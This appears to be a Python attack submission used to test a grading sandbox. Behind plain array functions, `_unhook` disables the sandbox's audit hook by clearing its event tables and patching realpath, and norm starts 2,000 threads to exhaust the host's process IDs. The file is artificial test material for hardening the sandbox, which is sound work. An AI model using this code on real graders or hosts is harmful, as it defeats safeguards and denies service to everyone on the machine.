"""Attack: start 2,000 threads, each a task (and a process id) of the host.

Threads are allowed (NumPy may use them), but each one is a task the kernel counts against the
machine's process ids (pid_max is 32,768 on many machines) and its thread limit, whatever the
namespace. Under a uid of its own the child is capped at 32 (RLIMIT_NPROC); if another level
sets no cap, a few submissions graded at once can use up the host's process ids, and then no
process on the machine can fork. Expected when the sandbox holds: thread creation stops far
below 2,000, so norm scores nothing (exactly 6 points), and no thread outlives grading.
"""

import posixpath
import sys
import threading

import numpy as np


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


WANTED = 2000
_started = []


def _start_threads():
    import ctypes

    ctypes.CDLL(None).mallopt(-8, 1)  # M_ARENA_MAX: one malloc arena, so a thread costs its stack
    threading.stack_size(64 * 1024)
    stop = threading.Event()
    for _ in range(WANTED):
        try:
            thread = threading.Thread(target=stop.wait, daemon=True)
            thread.start()
        except (RuntimeError, MemoryError):
            break
        _started.append(thread)
    return len(_started)


def norm(x):
    """The right norm only if WANTED threads could be started."""
    count = len(_started) or _start_threads()
    return float(np.sqrt(np.sum(x * x))) if count >= WANTED else -1.0
